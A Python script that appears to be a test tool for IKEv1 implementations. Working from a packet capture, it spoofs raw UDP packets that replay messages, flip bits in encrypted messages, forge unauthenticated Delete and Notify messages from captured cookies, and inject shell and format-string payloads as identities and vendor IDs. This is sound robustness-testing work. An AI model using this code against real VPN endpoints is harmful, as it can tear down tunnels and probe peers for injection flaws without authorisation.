#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""v1hostile.py: what somebody on the path can do with messages of version 1 that he has seen. Root; prints
how many datagrams it has sent, each with the addresses and ports of the message it is made from.

    replay FILE             every message of a capture again, twice
    flip FILE               of every encrypted message in it: each octet with one bit flipped
    clear FILE              for each pair of cookies: Deletes and notifications in the clear
    words FILE              the same with data that would do harm in a shell or a format; as identities and vendor
                            IDs of first messages, too
"""
import socket
import struct
import sys
import time

from hostile import WORDS
from v1matrix import KEYS, KINDS, VENDOR, identity, payload

HEADER = struct.Struct(">8s8sBBBBII")
DELETE, NOTIFY, INFORMATIONAL, ENCRYPTED = 12, 11, 5, 1


def messages(path):
    """(source, destination, source port, destination port, message) of UDP 500 and 4500 in a capture."""
    data = open(path, "rb").read()
    order = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    at = 24
    while at + 16 <= len(data):
        n = struct.unpack(order + "I", data[at + 8:at + 12])[0]
        frame, at = data[at + 16:at + 16 + n], at + 16 + n
        if frame[12:14] != b"\x08\x00" or frame[23] != 17:
            continue
        ip = frame[14:]
        udp = ip[4 * (ip[0] & 15):struct.unpack(">H", ip[2:4])[0]]
        sport, dport = struct.unpack(">HH", udp[:4])
        body = udp[8:]
        if 4500 in (sport, dport):
            if body[:4] != bytes(4):
                continue
            body = body[4:]
        elif 500 not in (sport, dport):
            continue
        if len(body) >= HEADER.size and body[17] == 0x10:
            yield ip[12:16], ip[16:20], sport, dport, body


class Wire:
    def __init__(self):
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def send(self, src, dst, sport, dport, body):
        if 4500 in (sport, dport):
            body = bytes(4) + body
        udp = struct.pack(">HHHH", sport, dport, 8 + len(body), 0) + body
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
        self.raw.sendto(head + udp, (socket.inet_ntoa(dst), 0))
        self.sent += 1
        if self.sent % 8 == 0:          # be no flood: what is dropped tests nothing
            time.sleep(0.002)


def replay(wire, seen):
    for _ in range(2):
        for m in seen:
            wire.send(*m)


def flip(wire, seen):
    for *where, body in seen:
        if not body[19] & ENCRYPTED:
            continue
        for i in range(len(body)):
            bad = bytearray(body)
            bad[i] ^= 1 << i % 8
            wire.send(*where, bytes(bad))


def pairs_of(seen):
    """((source, both cookies), where to send what is from there) of each."""
    pairs = {}
    for src, dst, sport, dport, body in seen:
        if body[8:16] != bytes(8):
            pairs[src, body[:16]] = (src, dst, sport, dport)
    return pairs.items()


def say(wire, where, cookies, first, data, msgid):
    wire.send(*where, HEADER.pack(cookies[:8], cookies[8:], first, 0x10, INFORMATIONAL, 0, msgid, HEADER.size + len(data)) + data)


def clear(wire, seen):
    for (_, cookies), where in pairs_of(seen):
        delete = struct.pack(">BBHIBBH", 0, 0, 28, 1, 1, 16, 1) + cookies
        notes = [struct.pack(">BBHIBBH", 0, 0, 28, 1, 1, 16, n) + cookies
                 for n in (1, 4, 14, 18, 24, 16384, 24578, 36136)]
        for first, data in [(DELETE, delete)] + [(NOTIFY, n) for n in notes]:
            for msgid in (0, 1, 0xfffffffe):
                say(wire, where, cookies, first, data, msgid)


def words(wire, seen):
    for (_, cookies), where in pairs_of(seen):
        for text in WORDS:
            for kind in (1, 14, 24, 24578, 36136, 40000):
                note = struct.pack(">BBHIBBH", 0, 0, 12 + len(text), 1, 1, 0, kind) + text
                say(wire, where, cookies, NOTIFY, note, 0x01020304)
    main, aggressive = KINDS["main-1"], KINDS["aggressive-1"]
    for i, text in enumerate(WORDS):
        for m in (main.having([*main.payloads, payload(VENDOR, "word", text)]),
                  aggressive.having([aggressive.payloads[0], *KEYS, identity(text)])):
            wire.send(*where, struct.pack(">Q", 0x776f726473000000 + i) + m.build()[8:])


def main():
    what, path = sys.argv[1:3]
    wire, seen = Wire(), list(messages(path))
    {"replay": replay, "flip": flip, "clear": clear, "words": words}[what](wire, seen)
    print(wire.sent)


main()
